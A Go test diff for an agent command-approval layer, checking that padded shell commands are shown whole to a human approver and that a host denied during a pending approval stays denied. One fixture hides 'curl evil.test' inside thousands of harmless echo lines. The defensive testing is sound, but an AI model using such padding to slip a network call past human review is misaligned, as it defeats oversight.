@@ -5,6 +5,7 @@ import (
 	"errors"
 	"strings"
 	"testing"
+	"testing/synctest"
 	"unicode/utf8"
 
 	"github.com/unicity-astrid/astrid-go/capability"
@@ -194,5 +195,62 @@ func TestTokenPatternsAreAccepted(t *testing.T) {
 		if err != nil || !p.Match(a.Resource) {
 			t.Errorf("%s: %s, %v", a.Resource, tokenPattern(&a), err)
 		}
+	}
+}
+
+// A part that is left out is a part that somebody else has chosen: what is asked about is shown as a whole.
+func TestWhatIsAskedIsShownWhole(t *testing.T) {
+	r := newRig(t, rigOptions{})
+	asked := r.answers(Decision{Choice: Deny})
+	long := strings.Repeat("echo harmless\n", 700)
+	_, err := r.Intercept(context.Background(), r.subject(), run("/bin/sh", "-c", long+"curl evil.test\n"+long))
+	if !errors.Is(err, ErrDenied) || len(*asked) != 1 {
+		t.Fatalf("%d questions, %v", len(*asked), err)
+	}
+	if q := (*asked)[0]; !strings.Contains(q.Resource, `harmless\ncurl evil.test\necho`) || len(q.Resource) < 2*len(long) {
+		t.Errorf("%d bytes are shown of %d", len(q.Resource), 2*len(long))
+	}
+	_, err = r.Intercept(context.Background(), r.subject(), run("/bin/sh", "-c", strings.Repeat("echo harmless\n", 5000)))
+	if !errors.Is(err, ErrDenied) || !strings.Contains(err.Error(), "nobody reads") || len(*asked) != 1 {
+		t.Errorf("more than a person reads: %d questions, %v", len(*asked), err)
+	}
+	// It is too much for a question, not for a command.
+	must(t, r.SetPolicy(mustPolicy(t, Rules{Mode: Autonomous})))
+	if _, err := r.Intercept(context.Background(), r.subject(), run("/bin/sh", "-c", strings.Repeat("echo harmless\n", 5000))); err != nil {
+		t.Error(err)
+	}
+}
+
+// What was forbidden while somebody thought about it stays forbidden, whatever the answer is, and costs nothing.
+func TestPolicyChangesWhileSomebodyThinks(t *testing.T) {
+	for _, choice := range []Choice{ApproveOnce, ApproveSession, ApproveAlways} {
+		synctest.Test(t, func(t *testing.T) {
+			r := newRig(t, rigOptions{})
+			ctx := context.Background()
+			c := attach(r.Approvals(), "alice")
+			a := get("https://a.test/1")
+			a.CostUSD = 1
+			got := r.start(ctx, r.subject(), a)
+			synctest.Wait()
+			must(t, r.SetPolicy(mustPolicy(t, Rules{DeniedHosts: []Rule{{"a.test", "config.toml:9"}}})))
+			must(t, r.Approvals().Resolve(ctx, "alice", c.of(Asked)[0].ID, Decision{Choice: choice}))
+			answer := <-got
+			var d *Denial
+			if !errors.As(answer.err, &d) || d.Layer != LayerPolicy || d.Source != "config.toml:9" {
+				t.Errorf("%s: %v", choice, answer.err)
+			}
+			if spent, _ := r.Budgets().Spent("alice", "s1", "/ws"); spent != 0 {
+				t.Errorf("%s: it cost %s", choice, spent)
+			}
+			must(t, r.SetPolicy(mustPolicy(t, Rules{})))
+			again := r.start(ctx, r.subject(), a)
+			synctest.Wait()
+			if open := r.Approvals().Pending("alice"); len(open) != 1 {
+				t.Errorf("%s: the answer to what was forbidden allows the next call", choice)
+			} else {
+				must(t, r.Approvals().Resolve(ctx, "alice", open[0].ID, Decision{Choice: Deny}))
+			}
+			<-again
+		})
 	}
 }
